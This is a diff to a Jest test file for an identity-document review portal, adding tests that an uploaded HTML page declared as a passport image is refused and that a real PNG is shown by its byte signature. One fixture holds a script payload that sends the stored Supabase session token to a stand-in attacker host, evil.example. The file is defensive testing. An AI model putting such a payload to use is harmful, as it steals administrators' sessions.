@@ -1,6 +1,8 @@
-import { RANGE_NOT_SATISFIABLE } from 'shared-auth';
+import type { SupabaseClient } from '@supabase/supabase-js';
+import { RANGE_NOT_SATISFIABLE, setSupabaseClient } from 'shared-auth';
+import { UPLOAD_FILE_MESSAGES } from 'shared-rules';
 import { fakeSupabase } from '../../../testing/fake-supabase';
-import { fetchIdentityDocuments } from './verification-documents';
+import { fetchIdentityDocuments, showDocumentInTab } from './verification-documents';
 
 jest.mock('shared-auth', () => ({ ...jest.requireActual('shared-auth'), loadSupabase: jest.fn() }));
 
@@ -48,4 +50,27 @@ test('an empty page keeps the total and asks for no owners', async () => {
 test('a page past the end is empty, not an error', async () => {
   fakeSupabase({ error: { message: 'Requested range not satisfiable', code: RANGE_NOT_SATISFIABLE }, status: 416 });
   expect(await fetchIdentityDocuments('pending', 5)).toEqual({ items: [], total: 0 });
+});
+
+describe('showDocumentInTab', () => {
+  const stored = (blob: Blob) =>
+    setSupabaseClient({ storage: { from: () => ({ download: async () => ({ data: blob, error: null }) }) } } as unknown as SupabaseClient);
+  const createObjectURL = jest.fn((blob: Blob) => `blob:portal/${blob.type}`);
+  beforeEach(() => Object.assign(URL, { createObjectURL, revokeObjectURL: jest.fn() }));
+  afterAll(() => setSupabaseClient(null));
+
+  test("refuses an uploaded page declared as an image instead of opening it in the admin's origin", async () => {
+    stored(new Blob(['<html><script>fetch("//evil.example/?" + localStorage.getItem("sb"))</script></html>'], { type: 'text/html' }));
+    const tab = { location: { href: '' } } as unknown as Window;
+    await expect(showDocumentInTab('u9/passport.html', tab)).rejects.toThrow(UPLOAD_FILE_MESSAGES.cannotOpen);
+    expect(tab.location.href).toBe('');
+    expect(createObjectURL).not.toHaveBeenCalled();
+  });
+
+  test('shows a real PNG as image/png, the type its bytes prove', async () => {
+    stored(new Blob([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0])], { type: 'text/html' }));
+    const tab = { location: { href: '' } } as unknown as Window;
+    await showDocumentInTab('u9/passport.png', tab);
+    expect(tab.location.href).toBe('blob:portal/image/png');
+  });
 });
